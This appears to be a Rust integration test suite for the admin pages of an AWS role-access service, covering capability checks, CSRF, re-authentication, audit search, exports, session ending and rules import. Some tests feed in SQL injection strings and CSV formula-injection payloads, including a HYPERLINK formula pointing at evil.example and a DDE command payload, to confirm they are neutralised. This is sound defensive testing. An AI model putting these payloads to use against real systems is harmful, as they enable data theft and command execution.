//! The security team's pages (`/admin/…`): each area with and without its capability, CSRF,
//! re-authentication, the audit search (filters, SQL-ish input, keyset pages), exports (only the
//! filtered set; CSV formula injection), sessions ended with what is bound to them, and the rules
//! explain / dry run / import.

use crate::helpers::*;
use regex::Regex;
use roleport::audit::{AuditEvent, EventKind, Outcome};

/// The test rules, with alice's admins rule granting the security team's pages and bob's
/// read-only rule granting only the audit area.
pub(crate) fn admin_rules() -> String {
    TEST_RULES.replace(
        "    roles: [arn:aws:iam::123456789012:role/Admin]\n",
        "    roles: [arn:aws:iam::123456789012:role/Admin]\n    capabilities: [security-team]\n",
    )
}

fn auditor_rules() -> String {
    admin_rules().replace(
        "    roles: [arn:aws:iam::123456789012:role/ReadOnly]\n",
        "    roles: [arn:aws:iam::123456789012:role/ReadOnly]\n    capabilities: [audit-read]\n",
    )
}

pub(crate) async fn admin_app(rules: String) -> TestApp {
    spawn_app_with(Options {
        rules_yaml: rules,
        ..Options::default()
    })
    .await
}

/// Signs `user` in with its own cookie jar.
async fn sign_in_as(app: &TestApp, user: &str) -> reqwest::Client {
    let client = browser();
    let start = client
        .get(format!("{}/login/demo-saml", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(start.status(), 302);
    let post = idp_sign_in(&client, &location(&start), user, &format!("{user}pw")).await;
    let mut form = vec![("SAMLResponse", post.saml_response)];
    if let Some(r) = post.relay_state {
        form.push(("RelayState", r));
    }
    let resp = client
        .post(format!("{}/saml/acs", app.address))
        .form(&form)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 303, "{user} signed in");
    client
}

pub(crate) async fn get(app: &TestApp, client: &reqwest::Client, path: &str) -> reqwest::Response {
    client
        .get(format!("{}{path}", app.address))
        .send()
        .await
        .unwrap()
}

pub(crate) async fn csrf(app: &TestApp, client: &reqwest::Client) -> String {
    let html = get(app, client, "/roles").await.text().await.unwrap();
    Regex::new(r#"<meta name="csrf-token" content="([^"]+)""#)
        .unwrap()
        .captures(&html)
        .unwrap_or_else(|| panic!("no csrf meta in {html}"))[1]
        .to_string()
}

pub(crate) async fn admin_rows(app: &TestApp, action: &str) -> Vec<serde_json::Value> {
    app.audit_events()
        .await
        .into_iter()
        .filter(|e| {
            (e["kind"] == "admin_action" || e["kind"] == "rules_imported")
                && e["details"]["action"] == action
        })
        .collect()
}

/// Writes an audit row directly, as any part of Roleport would.
async fn audit_row(
    app: &TestApp,
    subject: &str,
    kind: EventKind,
    outcome: Outcome,
    details: serde_json::Value,
    reason: Option<&str>,
) {
    let mut event = AuditEvent::new(kind, outcome);
    event.idp = Some("demo-saml".into());
    event.subject = Some(subject.into());
    event.details = details;
    event.reason = reason.map(str::to_string);
    roleport::db::audit::append(
        &app.pool,
        &roleport::audit::new_reference(),
        app.clock.now(),
        event,
    )
    .await
    .unwrap();
}

#[tokio::test]
async fn every_area_refuses_a_person_without_its_capability_with_403_and_an_audit_row() {
    let app = admin_app(admin_rules()).await;
    let bob = sign_in_as(&app, "bob").await;
    for path in [
        "/admin",
        "/admin/audit",
        "/admin/audit/export.csv",
        "/admin/sessions",
        "/admin/rules",
        "/admin/rules/explain?idp=demo-saml",
        "/admin/idps",
        "/admin/audit/chain",
    ] {
        let resp = get(&app, &bob, path).await;
        assert_eq!(resp.status(), 403, "{path}");
        let html = resp.text().await.unwrap();
        assert!(html.contains("Not allowed"), "{path}: {html}");
        let reference = reference_in(&html);
        let rows = roleport::db::audit::by_reference(&app.pool, &reference)
            .await
            .unwrap();
        assert_eq!(rows.len(), 1, "{path}");
        assert_eq!(rows[0].kind, EventKind::AdminAction);
        assert_eq!(rows[0].outcome, Outcome::Rejected);
        assert_eq!(rows[0].subject.as_deref(), Some("bob"));
        assert!(
            rows[0]
                .reason
                .as_deref()
                .unwrap_or_default()
                .starts_with("no_capability:"),
            "{:?}",
            rows[0].reason
        );
        assert_eq!(rows[0].details["path"], path.split('?').next().unwrap());
    }
    // State-changing requests too, with a valid CSRF token: the capability decides.
    let token = csrf(&app, &bob).await;
    let resp = bob
        .post(format!("{}/admin/sessions/end", app.address))
        .form(&[
            ("csrf_token", token.as_str()),
            ("session", &"00".repeat(32)),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403);
    let before = roleport::db::rules::provenance(&app.pool)
        .await
        .unwrap()
        .generation;
    let resp = bob
        .post(format!("{}/admin/rules/import", app.address))
        .form(&[("csrf_token", token.as_str()), ("document", TEST_RULES)])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403);
    assert_eq!(
        roleport::db::rules::provenance(&app.pool)
            .await
            .unwrap()
            .generation,
        before,
        "nothing imported"
    );
    // The roles page offers no admin link to bob.
    assert!(
        !get(&app, &bob, "/roles")
            .await
            .text()
            .await
            .unwrap()
            .contains("id=\"admin-link\"")
    );
}

#[tokio::test]
async fn one_area_capability_opens_only_that_area() {
    let app = admin_app(auditor_rules()).await;
    let bob = sign_in_as(&app, "bob").await;
    assert_eq!(get(&app, &bob, "/admin/audit").await.status(), 200);
    let index = get(&app, &bob, "/admin").await.text().await.unwrap();
    assert!(
        index.contains("href=\"/admin/audit\"") && !index.contains("href=\"/admin/sessions\""),
        "{index}"
    );
    for path in ["/admin/sessions", "/admin/rules", "/admin/idps"] {
        assert_eq!(get(&app, &bob, path).await.status(), 403, "{path}");
    }
    assert!(
        get(&app, &bob, "/roles")
            .await
            .text()
            .await
            .unwrap()
            .contains("id=\"admin-link\"")
    );
}

#[tokio::test]
async fn strangers_are_sent_to_sign_in_and_back() {
    let app = admin_app(admin_rules()).await;
    let resp = app.get("/admin/audit?person=alice").await;
    assert_eq!(resp.status(), 303);
    assert_eq!(
        location(&resp),
        "/login?return_to=%2Fadmin%2Faudit%3Fperson%3Dalice"
    );
}

#[tokio::test]
async fn an_old_sign_in_goes_through_the_idp_again_and_comes_back() {
    let app = admin_app(admin_rules()).await;
    let alice = sign_in_as(&app, "alice").await;
    assert_eq!(get(&app, &alice, "/admin/audit").await.status(), 200);
    // The sign-in is now older than [admin] reauth_after_seconds (15 min by default).
    sqlx::query("UPDATE sessions SET created_at = created_at - interval '16 minutes'")
        .execute(&app.pool)
        .await
        .unwrap();
    let resp = get(&app, &alice, "/admin/audit?outcome=rejected").await;
    assert_eq!(resp.status(), 303);
    let reauth = location(&resp);
    assert_eq!(
        reauth,
        "/login/demo-saml?reauth=1&return_to=%2Fadmin%2Faudit%3Foutcome%3Drejected"
    );
    // A POST is sent to sign in again too, and does nothing meanwhile.
    let token = csrf(&app, &alice).await;
    let resp = alice
        .post(format!("{}/admin/rules/import", app.address))
        .form(&[("csrf_token", token.as_str()), ("document", TEST_RULES)])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 303);
    // Back to the rules page, which puts the document back (tests/api/admin_forms.rs).
    assert_eq!(
        location(&resp),
        "/login/demo-saml?reauth=1&return_to=%2Fadmin%2Frules%3Fkept%3D1"
    );
    assert!(admin_rows(&app, "rules.import").await.is_empty());
    // Through the IdP again, which is told to ask for the password (ForceAuthn) although it
    // still has alice's session: back on the page that asked.
    let start = get(&app, &alice, &reauth).await;
    assert_eq!(start.status(), 302);
    let mut url = location(&start);
    let html = loop {
        let resp = alice.get(&url).send().await.unwrap();
        if resp.status().is_redirection() {
            url = reqwest::Url::parse(&url)
                .unwrap()
                .join(&location(&resp))
                .unwrap()
                .to_string();
            continue;
        }
        break resp.text().await.unwrap();
    };
    assert!(
        html.contains("name=\"AuthState\"") && !html.contains("SAMLResponse"),
        "the IdP asks again: {html}"
    );
    let post = idp_sign_in(&alice, &location(&start), "alice", "alicepw").await;
    let mut form = vec![("SAMLResponse", post.saml_response)];
    if let Some(r) = post.relay_state {
        form.push(("RelayState", r));
    }
    let back = alice
        .post(format!("{}/saml/acs", app.address))
        .form(&form)
        .send()
        .await
        .unwrap();
    assert_eq!(back.status(), 303);
    assert_eq!(location(&back), "/admin/audit?outcome=rejected");
    assert_eq!(
        get(&app, &alice, "/admin/audit?outcome=rejected")
            .await
            .status(),
        200
    );
}

#[tokio::test]
async fn audit_search_filters_on_the_server_and_pages_by_keyset() {
    let app = admin_app(admin_rules()).await;
    let alice = sign_in_as(&app, "alice").await;
    let _bob = sign_in_as(&app, "bob").await;
    for i in 0..60 {
        audit_row(&app, "filler", EventKind::CredentialsIssued, Outcome::Accepted,
            serde_json::json!({ "role_arn": "arn:aws:iam::123456789012:role/ReadOnly", "rule": "readonly", "n": i }), None).await;
    }
    audit_row(
        &app,
        "carol",
        EventKind::CredentialsIssued,
        Outcome::Rejected,
        serde_json::json!({ "role_arn": "arn:aws:iam::210987654321:role/Dev" }),
        Some("no_grant: carol has no such role"),
    )
    .await;

    let rows = |html: &str| {
        Regex::new(r#"<tr class="event">"#)
            .unwrap()
            .find_iter(html)
            .count()
    };
    let html = get(&app, &alice, "/admin/audit?person=bob")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(rows(&html), 1, "bob's sign-in only: {html}");
    assert!(html.contains("sign_in"));

    let html = get(&app, &alice, "/admin/audit?account=210987654321")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(rows(&html), 1);
    assert!(html.contains("carol"));
    let html = get(
        &app,
        &alice,
        "/admin/audit?role=Dev&outcome=rejected&reason=no_grant",
    )
    .await
    .text()
    .await
    .unwrap();
    assert_eq!(rows(&html), 1);
    let html = get(&app, &alice, "/admin/audit?reason=no_grant%3A%20bob")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(rows(&html), 0);

    // The time range: from is inclusive, until exclusive.
    let html = get(&app, &alice, "/admin/audit?person=bob&from=2999-01-01")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(rows(&html), 0);
    let html = get(
        &app,
        &alice,
        "/admin/audit?person=bob&from=2000-01-01&to=2999-01-01T00:00",
    )
    .await
    .text()
    .await
    .unwrap();
    assert_eq!(rows(&html), 1);
    assert_eq!(
        get(&app, &alice, "/admin/audit?from=2026-12-08&to=2026-12-07")
            .await
            .status(),
        400
    );

    // SQL-ish input is a value like any other: it matches nothing and breaks nothing.
    for evil in [
        "%27%20OR%201%3D1%20--",
        "bob%27%3B%20DROP%20TABLE%20audit_events%3B%20--",
        "%25",
        "_",
    ] {
        let resp = get(&app, &alice, &format!("/admin/audit?person={evil}")).await;
        assert_eq!(resp.status(), 200, "{evil}");
        let html = resp.text().await.unwrap();
        assert!(html.contains("id=\"no-events\""), "{evil}: {html}");
    }
    let resp = get(&app, &alice, "/admin/audit?role=%25&kind=sign_in").await;
    assert!(
        resp.text().await.unwrap().contains("id=\"no-events\""),
        "LIKE wildcards are not wildcards"
    );
    // A malformed field is named, and nothing is searched.
    for bad in [
        "account=1%27%20OR%201%3D1",
        "outcome=%27%20OR%20%271",
        "from=yesterday",
        "before=-5",
    ] {
        let resp = get(&app, &alice, &format!("/admin/audit?{bad}")).await;
        assert_eq!(resp.status(), 400, "{bad}");
        assert!(
            resp.text().await.unwrap().contains("id=\"problem\""),
            "{bad}"
        );
    }

    // A field given twice is refused, and the refusal is audited.
    let resp = get(&app, &alice, "/admin/audit?person=a&person=b").await;
    assert_eq!(resp.status(), 400);
    assert!(
        admin_rows(&app, "audit.search")
            .await
            .iter()
            .any(|e| e["outcome"] == "rejected")
    );

    // 60 filler rows: a first page of 50, then the older 10 by the cursor, without overlap.
    let html = get(&app, &alice, "/admin/audit?person=filler")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(rows(&html), 50);
    let older = Regex::new(r#"id="older" href="([^"]+)""#)
        .unwrap()
        .captures(&html)
        .expect("older link")[1]
        .to_string();
    let older = html_unescape(&older).replace("&#38;", "&");
    assert!(
        older.starts_with("/admin/audit?person=filler&before="),
        "{older}"
    );
    let seqs = |html: &str| -> Vec<i64> {
        Regex::new(r#"/admin/audit/events/(\d+)""#)
            .unwrap()
            .captures_iter(html)
            .map(|c| c[1].parse().unwrap())
            .collect()
    };
    let first = seqs(&html);
    let html2 = get(&app, &alice, &older).await.text().await.unwrap();
    let second = seqs(&html2);
    assert_eq!(second.len(), 10);
    assert!(first.iter().min().unwrap() > second.iter().max().unwrap());
    assert!(!html2.contains("id=\"older\""));

    // Each search is itself an audit row, naming the filter.
    let searches = admin_rows(&app, "audit.search").await;
    assert!(
        searches
            .iter()
            .any(|e| e["details"]["filter"] == "person=filler" && e["subject"] == "alice")
    );
}

#[tokio::test]
async fn exports_hold_only_the_filtered_set_and_no_formulas() {
    let app = admin_app(admin_rules()).await;
    let alice = sign_in_as(&app, "alice").await;
    let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
    audit_row(
        &app,
        evil,
        EventKind::SignIn,
        Outcome::Rejected,
        serde_json::json!({ "note": "+SUM(1,2)" }),
        Some("@cmd|' /C calc'!A0"),
    )
    .await;
    audit_row(
        &app,
        "-2+3",
        EventKind::SignIn,
        Outcome::Rejected,
        serde_json::json!({}),
        None,
    )
    .await;

    let resp = get(
        &app,
        &alice,
        &format!(
            "/admin/audit/export.csv?person={}",
            urlencoding::encode(evil)
        ),
    )
    .await;
    assert_eq!(resp.status(), 200);
    assert!(
        resp.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    assert!(
        resp.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment;")
    );
    let csv = resp.text().await.unwrap();
    let lines: Vec<&str> = csv.split_terminator("\r\n").collect();
    assert_eq!(lines.len(), 2, "header and the one matching row: {csv}");
    assert!(lines[0].starts_with("\"seq\",\"at\",\"reference\""));
    assert!(
        lines[1].contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\")\""),
        "{}",
        lines[1]
    );
    assert!(lines[1].contains("\"'@cmd|' /C calc'!A0\""), "{}", lines[1]);
    for cell in lines[1].split("\",\"") {
        let cell = cell.trim_start_matches('"');
        assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
    }
    let csv = get(&app, &alice, "/admin/audit/export.csv?person=-2%2B3")
        .await
        .text()
        .await
        .unwrap();
    assert!(csv.contains("\"'-2+3\""), "{csv}");

    // JSON Lines: one object per row of the filtered set; the whole log is larger.
    let jsonl = get(
        &app,
        &alice,
        "/admin/audit/export.jsonl?outcome=rejected&kind=sign_in",
    )
    .await
    .text()
    .await
    .unwrap();
    let objects: Vec<serde_json::Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(objects.len(), 2);
    assert!(objects.iter().all(|o| o["event"]["outcome"] == "rejected"));
    let all = get(&app, &alice, "/admin/audit/export.jsonl")
        .await
        .text()
        .await
        .unwrap();
    assert!(all.lines().count() > 2);
    // An export ignores a page cursor: it is the whole filtered set.
    let with_cursor = get(
        &app,
        &alice,
        "/admin/audit/export.jsonl?outcome=rejected&kind=sign_in&before=1",
    )
    .await
    .text()
    .await
    .unwrap();
    assert_eq!(with_cursor.lines().count(), 2);
    let exports = admin_rows(&app, "audit.export").await;
    assert!(exports.iter().any(|e| e["details"]["format"] == "csv"));
    assert!(exports.iter().any(|e| e["details"]["format"] == "jsonl"
        && e["details"]["filter"] == "kind=sign_in&outcome=rejected"));
    // A bad filter exports nothing.
    assert_eq!(
        get(&app, &alice, "/admin/audit/export.csv?account=x")
            .await
            .status(),
        400
    );
}

#[tokio::test]
async fn an_event_shows_the_rule_that_decided_and_the_chain() {
    let app = admin_app(admin_rules()).await;
    let alice = sign_in_as(&app, "alice").await;
    audit_row(&app, "alice", EventKind::CredentialsIssued, Outcome::Accepted,
        serde_json::json!({ "role_arn": "arn:aws:iam::123456789012:role/Admin", "rule": "admins", "access_key_id": "ASIAEXAMPLE" }), None).await;
    let html = get(&app, &alice, "/admin/audit?kind=credentials_issued")
        .await
        .text()
        .await
        .unwrap();
    let seq = Regex::new(r#"/admin/audit/events/(\d+)""#)
        .unwrap()
        .captures(&html)
        .unwrap()[1]
        .to_string();
    let html = get(&app, &alice, &format!("/admin/audit/events/{seq}"))
        .await
        .text()
        .await
        .unwrap();
    assert!(
        html.contains("The rule that decided: <code>admins</code>"),
        "{html}"
    );
    assert!(html.contains("pattern: aws-admins"), "{html}");
    assert!(html.contains("ASIAEXAMPLE"));
    // A sign-in: what the current rules make of the recorded groups.
    let html = get(&app, &alice, "/admin/audit?kind=sign_in&person=alice")
        .await
        .text()
        .await
        .unwrap();
    let seq = Regex::new(r#"/admin/audit/events/(\d+)""#)
        .unwrap()
        .captures(&html)
        .unwrap()[1]
        .to_string();
    let html = get(&app, &alice, &format!("/admin/audit/events/{seq}"))
        .await
        .text()
        .await
        .unwrap();
    assert!(html.contains("id=\"explanation\""), "{html}");
    assert!(html.contains("security-team"));
    for bad in ["0", "-1", "abc", "99999999"] {
        assert_eq!(
            get(&app, &alice, &format!("/admin/audit/events/{bad}"))
                .await
                .status(),
            404,
            "{bad}"
        );
    }
    let html = get(&app, &alice, "/admin/audit/chain")
        .await
        .text()
        .await
        .unwrap();
    assert!(html.contains("<strong>Intact</strong>"), "{html}");
}

#[tokio::test]
async fn ending_a_session_signs_the_person_out_and_drops_what_is_bound_to_it() {
    let app = admin_app(admin_rules()).await;
    let alice = sign_in_as(&app, "alice").await;
    let bob = sign_in_as(&app, "bob").await;
    assert_eq!(get(&app, &bob, "/roles").await.status(), 200);
    let html = get(&app, &alice, "/admin/sessions")
        .await
        .text()
        .await
        .unwrap();
    assert!(html.contains("127.0.0.1"), "source address shown: {html}");
    let row = Regex::new(
        r#"(?s)<tr class="session" data-subject="bob">.*?name="session" value="([0-9a-f]{64})""#,
    )
    .unwrap();
    let handle = row
        .captures(&html)
        .unwrap_or_else(|| panic!("no row for bob: {html}"))[1]
        .to_string();
    // Something bound to bob's session: credentials waiting to be shown once.
    sqlx::query("INSERT INTO shown_once_credentials (id, session_id_hash, key_id, sealed, expires_at) VALUES ('x1', $1, 'k', '\\x00', now() + interval '5 minutes')")
        .bind(hex::decode(&handle).unwrap())
        .execute(&app.pool)
        .await
        .unwrap();

    // Without the CSRF token: refused, and bob stays signed in.
    let resp = alice
        .post(format!("{}/admin/sessions/end", app.address))
        .form(&[("session", handle.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
    assert_eq!(get(&app, &bob, "/roles").await.status(), 200);
    // A wrong token too.
    let resp = alice
        .post(format!("{}/admin/sessions/end", app.address))
        .form(&[("csrf_token", "wrong"), ("session", handle.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);

    let token = csrf(&app, &alice).await;
    let resp = alice
        .post(format!("{}/admin/sessions/end", app.address))
        .form(&[("csrf_token", token.as_str()), ("session", handle.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 303);
    assert_eq!(location(&resp), "/admin/sessions?ended=ended");
    let resp = get(&app, &bob, "/roles").await;
    assert_ne!(resp.status(), 200, "bob is signed out");
    let left: i64 = sqlx::query_scalar("SELECT count(*) FROM shown_once_credentials")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(left, 0, "shown-once credentials went with the session");
    let ended = admin_rows(&app, "sessions.ended").await;
    assert_eq!(ended.len(), 1);
    assert_eq!(ended[0]["details"]["ended_subject"], "bob");
    assert_eq!(ended[0]["subject"], "alice");
    // Ending it again: already gone. A handle that is not one: 400.
    let resp = alice
        .post(format!("{}/admin/sessions/end", app.address))
        .form(&[("csrf_token", token.as_str()), ("session", handle.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(location(&resp), "/admin/sessions?ended=gone");
    let resp = alice
        .post(format!("{}/admin/sessions/end", app.address))
        .form(&[("csrf_token", token.as_str()), ("session", "' OR 1=1 --")])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
    assert_eq!(
        get(&app, &alice, "/roles").await.status(),
        200,
        "alice is still signed in"
    );
}

#[tokio::test]
async fn rules_explain_dry_run_and_import() {
    let app = admin_app(admin_rules()).await;
    let alice = sign_in_as(&app, "alice").await;
    let _bob = sign_in_as(&app, "bob").await;
    let html = get(&app, &alice, "/admin/rules")
        .await
        .text()
        .await
        .unwrap();
    let before = roleport::db::rules::provenance(&app.pool)
        .await
        .unwrap()
        .generation;
    assert!(
        html.contains(&format!("<td id=\"generation\">{before}</td>")),
        "{html}"
    );
    assert!(html.contains("pattern: aws-admins"));

    let html = get(&app, &alice, "/admin/rules/explain?idp=demo-saml&subject=bob&groups=cn%3Daws-readonly%2Cou%3Dgroups%2Cdc%3Dexample%2Cdc%3Dorg").await.text().await.unwrap();
    assert!(html.contains("id=\"explanation\""), "{html}");
    assert!(
        html.contains("ReadOnly in demo-prod (123456789012), rule readonly"),
        "{html}"
    );
    assert_eq!(admin_rows(&app, "rules.explain").await.len(), 1);

    // The new document takes ReadOnly from the readonly group and gives it the security team.
    let proposed = admin_rules().replace(
        "    roles: [arn:aws:iam::123456789012:role/ReadOnly]\n",
        "    roles: [arn:aws:iam::123456789012:role/Admin]\n    capabilities: [security-team]\n",
    );
    let token = csrf(&app, &alice).await;
    let resp = alice
        .post(format!("{}/admin/rules/dry-run", app.address))
        .form(&[("document", proposed.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400, "no CSRF token");
    let resp = alice
        .post(format!("{}/admin/rules/dry-run", app.address))
        .form(&[
            ("csrf_token", token.as_str()),
            ("document", proposed.as_str()),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let html = resp.text().await.unwrap();
    assert!(html.contains("<bdi>bob (demo-saml)</bdi>"), "{html}");
    assert!(
        html.contains("loses <code>arn:aws:iam::123456789012:role/ReadOnly</code>"),
        "{html}"
    );
    assert!(
        html.contains("gains <code>arn:aws:iam::123456789012:role/Admin</code>"),
        "{html}"
    );
    assert!(
        html.contains("gains capability <code>security-team</code>"),
        "{html}"
    );
    assert_eq!(
        roleport::db::rules::provenance(&app.pool)
            .await
            .unwrap()
            .generation,
        before,
        "a dry run changes nothing"
    );

    // A broken document is refused with its errors, and not imported.
    let resp = alice
        .post(format!("{}/admin/rules/import", app.address))
        .form(&[
            ("csrf_token", token.as_str()),
            ("document", "version: 1\nrules:\n  - id: x\n"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
    assert!(resp.text().await.unwrap().contains("id=\"problems\""));
    // Import without a token: refused.
    let resp = alice
        .post(format!("{}/admin/rules/import", app.address))
        .form(&[("document", proposed.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
    assert_eq!(
        roleport::db::rules::provenance(&app.pool)
            .await
            .unwrap()
            .generation,
        before
    );

    let resp = alice
        .post(format!("{}/admin/rules/import", app.address))
        .form(&[
            ("csrf_token", token.as_str()),
            ("document", proposed.as_str()),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 303);
    let p = roleport::db::rules::provenance(&app.pool).await.unwrap();
    assert_eq!(p.generation, before + 1);
    assert_eq!(p.importer.by, "demo-saml/alice");
    assert_eq!(p.importer.via, "admin-page");
    assert_eq!(
        location(&resp),
        format!("/admin/rules?imported={}", p.generation)
    );
    let imported: Vec<_> = admin_rows(&app, "rules.import")
        .await
        .into_iter()
        .filter(|e| e["kind"] == "rules_imported")
        .collect();
    assert_eq!(
        imported
            .iter()
            .filter(|e| e["outcome"] == "accepted")
            .count(),
        1
    );
    assert_eq!(
        imported
            .iter()
            .filter(|e| e["outcome"] == "rejected")
            .count(),
        1
    );
    assert!(
        imported
            .iter()
            .any(|e| e["details"]["generation"] == p.generation)
    );
    let html = get(&app, &alice, &location(&resp))
        .await
        .text()
        .await
        .unwrap();
    assert!(
        html.contains("<bdi id=\"imported-by\">demo-saml/alice</bdi>"),
        "{html}"
    );
    // This replica uses the new rules at once.
    assert_eq!(app.state.rules_generation(), p.generation);
}

#[tokio::test]
async fn identity_providers_show_trust_and_activity() {
    let app = admin_app(admin_rules()).await;
    let alice = sign_in_as(&app, "alice").await;
    let html = get(&app, &alice, "/admin/idps").await.text().await.unwrap();
    assert!(html.contains("id=\"idp-demo-saml\""), "{html}");
    assert!(html.contains("metadata URL"), "{html}");
    assert!(
        html.contains("<span class=\"status\">"),
        "a certificate is listed: {html}"
    );
    let accepted = Regex::new(r#"<td class="last-accepted">([^<]*)</td>"#)
        .unwrap()
        .captures(&html)
        .unwrap()[1]
        .to_string();
    assert!(accepted.contains("ago"), "{accepted}");
    assert_eq!(admin_rows(&app, "idps.list").await.len(), 1);
}

#[tokio::test]
async fn re_authentication_asks_an_openid_provider_to_log_in_again() {
    let app = spawn_app_with_oidc(None).await;
    let plain = location(&app.get("/login/demo-oidc").await);
    assert!(!plain.contains("prompt="), "{plain}");
    let forced = location(
        &app.get("/login/demo-oidc?reauth=1&return_to=%2Fadmin")
            .await,
    );
    let query = query_of(&forced);
    assert_eq!(
        query.get("prompt").map(String::as_str),
        Some("login"),
        "{forced}"
    );
}

#[tokio::test]
async fn an_openid_provider_shows_its_jwks_age() {
    let client_id = format!("roleport-test-{}", uuid::Uuid::new_v4().simple());
    let app = spawn_app_with(Options {
        rules_yaml: admin_rules(),
        extra_idps: vec![demo_oidc_idp(&client_id, None)],
        ..Options::default()
    })
    .await;
    let alice = sign_in_as(&app, "alice").await;
    let html = get(&app, &alice, "/admin/idps").await.text().await.unwrap();
    assert!(html.contains("id=\"idp-demo-oidc\""), "{html}");
    assert!(html.contains("OpenID Connect"), "{html}");
    assert!(html.contains("JWKS fetched"), "{html}");
}
